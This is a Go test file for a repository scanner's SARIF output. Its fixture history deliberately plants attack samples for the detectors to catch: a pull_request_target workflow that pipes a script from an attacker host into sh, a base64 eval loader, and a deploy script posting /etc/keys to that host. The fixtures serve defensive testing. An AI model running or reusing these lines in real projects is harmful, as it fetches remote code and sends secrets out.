package main

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/repoguard/repoguard/cmd/repoguard/internal/schematest"
	"github.com/repoguard/repoguard/detectors"
	"github.com/repoguard/repoguard/guard"
)

// sarifLog is what the tests read of a SARIF log.
type sarifLog struct {
	Runs []struct {
		Tool struct {
			Driver struct {
				Name    string      `json:"name"`
				Version string      `json:"version"`
				Rules   []sarifRule `json:"rules"`
			} `json:"driver"`
		} `json:"tool"`
		Results     []sarifResult `json:"results"`
		Invocations []struct {
			Notifications []sarifNotification `json:"toolExecutionNotifications"`
		} `json:"invocations"`
	} `json:"runs"`
}

// sarifHistory builds a history on which several detectors report, with
// files deleted and renamed since: a private key added then deleted, a
// workflow run on pull_request_target, a binary, an obfuscated script, a
// deploy script that calls out and is renamed later.
func sarifHistory(t *testing.T) *testRepo {
	r := newTestRepo(t)
	r.commit("initial", "src/main.go", "package main\n\nfunc main() {}\n", "README.md", "# demo\n")
	r.commit("add deploy key", "deploy/keys/prod.pem", pemKey(t))
	r.commit("ci", ".github/workflows/ci.yml", "on: pull_request_target\njobs:\n  build:\n    runs-on: ubuntu-latest\n"+
		"    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"+
		"      - run: curl -s https://collector.attacker-host.io/i.sh | sh\n")
	r.commit("tools", "tools/helper.bin", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00\x01\x00\x00\x00"+
		strings.Repeat("\x00\x01\x02\x03", 64))
	r.commit("loader", "src/loader.js", "const p = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9ldmlsLmlvJyk=';\n"+
		"eval(atob(p));\n")
	r.commit("deploy", "deploy/deploy.sh", "#!/bin/sh\ncurl -sf https://collector.attacker-host.io/up -d @/etc/keys\n")
	r.git("rm", "-q", "deploy/keys/prod.pem")
	r.commit("drop the key")
	r.git("mv", "deploy/deploy.sh", "deploy/run.sh")
	r.commit("rename the deploy script")
	return r
}

func scanSARIF(t *testing.T, r *testRepo, data string) (sarifLog, string) {
	t.Helper()
	_, out, stderr := runCmd(t, "scan", r.dir, "--format", "sarif", "--fail-on", "none", "--data", data)
	var log sarifLog
	if err := json.Unmarshal([]byte(out), &log); err != nil || len(log.Runs) != 1 {
		t.Fatalf("bad SARIF (%v), stderr %s:\n%s", err, stderr, out)
	}
	return log, out
}

// TestSARIFForCodeScanning checks a SARIF log of a history with several
// detectors against the SARIF 2.1.0 schema and against what code scanning
// needs: a region for every result, a rule per detector and severity
// whose security-severity is the result's, descriptive rules, unique
// fingerprints that a second run repeats, paths at the scanned tip, and
// a tool version from the build info.
func TestSARIFForCodeScanning(t *testing.T) {
	r := sarifHistory(t)
	data := t.TempDir()
	log, out := scanSARIF(t, r, data)
	schema, err := schematest.Load("testdata/sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	if errs := schema.Validate([]byte(out)); len(errs) > 0 {
		t.Fatalf("the SARIF log breaks the 2.1.0 schema: %v", errs)
	}
	run := log.Runs[0]
	if v := run.Tool.Driver.Version; v != versionString() || v == "dev" {
		t.Errorf("tool version %q, want %q from the build info", v, versionString())
	}
	tip := map[string]bool{}
	for _, p := range strings.Fields(r.git("ls-files")) {
		tip[p] = true
	}
	dets, fps := map[string]bool{}, map[string]string{}
	for i, res := range run.Results {
		rule := run.Tool.Driver.Rules[res.RuleIndex]
		checkResult(t, res, rule, tip)
		dets[rule.Name] = true
		for k, fp := range res.PartialFingerprints {
			if other, ok := fps[k+fp]; ok {
				t.Errorf("results %s and %d share the fingerprint %s %s", other, i, k, fp)
			}
			fps[k+fp] = res.RuleID
		}
	}
	for _, d := range []string{"key-material", "ci-tampering", "binary-in-source", "obfuscation", "sensitive-path"} {
		if !dets[d] {
			t.Errorf("no result of %s among %v", d, dets)
		}
	}
	checkGone(t, run.Results, run.Invocations[0].Notifications)
	again, _ := scanSARIF(t, r, data)
	if got, want := fingerprintsOf(again.Runs[0].Results), fingerprintsOf(run.Results); got != want {
		t.Errorf("a second run changed the fingerprints:\n%s\nwant\n%s", got, want)
	}
}

// checkResult checks one result and its rule.
func checkResult(t *testing.T, res sarifResult, rule sarifRule, tip map[string]bool) {
	t.Helper()
	sev, _ := res.Properties["severity"].(string)
	loc := res.Locations[0].PhysicalLocation
	switch {
	case rule.ID != res.RuleID || res.RuleID != rule.Name+"/"+sev:
		t.Errorf("result of rule %s (severity %s) points at rule %s", res.RuleID, sev, rule.ID)
	case loc.Region.StartLine < 1:
		t.Errorf("%s at %s has no start line", res.RuleID, loc.ArtifactLocation.URI)
	case rule.Properties["security-severity"] != res.Properties["security-severity"]:
		t.Errorf("%s: rule security-severity %v, result's %v", res.RuleID, rule.Properties["security-severity"], res.Properties["security-severity"])
	case !tip[loc.ArtifactLocation.URI] && (res.Level != "error" || !strings.HasSuffix(res.Message.Text, goneNote)):
		t.Errorf("%s at %s, a path gone from the tip, is listed without the note or below high", res.RuleID, loc.ArtifactLocation.URI)
	}
	d := detectorNamed(rule.Name)
	if d == nil || rule.FullDescription.Text != d.Doc || rule.ShortDescription.Text == rule.ID ||
		!strings.Contains(rule.Help.Markdown, "**What to do.** "+remedies[d.Name]) || rule.Help.Text == "" {
		t.Errorf("rule %s is not described: %+v", rule.ID, rule)
	}
}

// checkGone: the key deleted since is a result at its last path with the
// note; the lower findings in files gone since are counted in a note of
// the run.
func checkGone(t *testing.T, results []sarifResult, notes []sarifNotification) {
	t.Helper()
	key := false
	for _, res := range results {
		if res.RuleID == "key-material/critical" && res.Locations[0].PhysicalLocation.ArtifactLocation.URI == "deploy/keys/prod.pem" {
			key = res.Properties["gone_at_tip"] == true
		}
	}
	if !key {
		t.Error("the deleted key is not a result at deploy/keys/prod.pem marked gone_at_tip")
	}
	if len(notes) != 1 || !strings.Contains(notes[0].Message.Text, "in files no longer at the scanned tip") {
		t.Errorf("notifications %+v, want one counting the findings left out", notes)
	}
}

func detectorNamed(name string) *guard.Detector {
	for _, d := range detectors.All() {
		if d.Name == name {
			return d
		}
	}
	return nil
}

func fingerprintsOf(results []sarifResult) string {
	var b strings.Builder
	for _, res := range results {
		b.WriteString(res.RuleID + " " + res.PartialFingerprints["primaryLocationLineHash"] + "\n")
	}
	return b.String()
}

// TestSARIFFingerprintsNumberRepeats: two findings alike in all but their
// line (the same commit, detector, file and evidence) get fingerprints
// of their own, the same on every run.
func TestSARIFFingerprintsNumberRepeats(t *testing.T) {
	c := &guard.Commit{Hash: strings.Repeat("a", 40)}
	f := guard.Finding{Detector: "network-endpoint", Path: "deploy/run.sh", Line: 3, Message: "Adds evil.io.", Evidence: []string{"host evil.io"}}
	g := f
	g.Line = 9
	var got []map[string]string
	for range 2 {
		r := &sarifReporter{seen: map[string]int{}}
		got = append(got, r.fingerprints(c, f), r.fingerprints(c, g))
	}
	if got[0]["primaryLocationLineHash"] == got[1]["primaryLocationLineHash"] || got[0]["repoguard/v1"] == got[1]["repoguard/v1"] {
		t.Errorf("two findings share fingerprints: %v", got[:2])
	}
	for i := range 2 {
		if got[i]["primaryLocationLineHash"] != got[i+2]["primaryLocationLineHash"] || got[i]["repoguard/v1"] != got[i+2]["repoguard/v1"] {
			t.Errorf("fingerprints differ between runs: %v and %v", got[i], got[i+2])
		}
	}
	// The line is left out: the same finding moved to another line (an
	// edit above it) keeps its fingerprints in a fresh run.
	moved := f
	moved.Line = 40
	r := &sarifReporter{seen: map[string]int{}}
	if fp := r.fingerprints(c, moved); fp["primaryLocationLineHash"] != got[0]["primaryLocationLineHash"] || fp["repoguard/v1"] != got[0]["repoguard/v1"] {
		t.Errorf("the finding at line %d has fingerprints %v, at line %d %v", moved.Line, fp, f.Line, got[0])
	}
}

// TestSARIFLeftOut: what a log leaves out is counted by why, in one note.
func TestSARIFLeftOut(t *testing.T) {
	var l leftOut
	for _, tc := range []struct {
		sev  guard.Severity
		path string
		gone bool
		keep bool
	}{
		{guard.Critical, "keys/a.pem", true, true}, {guard.High, "bin/x", true, true}, {guard.Low, "a.go", false, true},
		{guard.Medium, "old.sh", true, false}, {guard.Low, "old.sh", true, false}, {guard.Info, "", false, false},
	} {
		if got := l.keep(guard.Finding{Severity: tc.sev}, tc.path, tc.gone); got != tc.keep {
			t.Errorf("%s at %q (gone %t): kept %t, want %t", tc.sev, tc.path, tc.gone, got, tc.keep)
		}
	}
	want := "Not listed as results: 2 findings (1 medium, 1 low) in files no longer at the scanned tip"
	if n := l.note(); !strings.HasPrefix(n, want) || !strings.Contains(n, "and 1 finding about commits that changed no file") {
		t.Errorf("note %q, want %q... and the finding without a file", n, want)
	}
	if n := (&leftOut{}).note(); n != "" {
		t.Errorf("nothing left out: note %q", n)
	}
}

// TestSARIFRulesDescribeEveryDetector: every detector has what to do
// about its findings, and a short description that is not its name.
func TestSARIFRulesDescribeEveryDetector(t *testing.T) {
	for _, d := range detectors.All() {
		r := describeRule(d, guard.High)
		if remedies[d.Name] == "" || r.ShortDescription.Text == d.Name || len(r.ShortDescription.Text) > maxDescription ||
			!strings.HasSuffix(r.ShortDescription.Text, "(high).") || r.Properties["security-severity"] != "7.5" {
			t.Errorf("%s: %+v", d.Name, r)
		}
	}
}
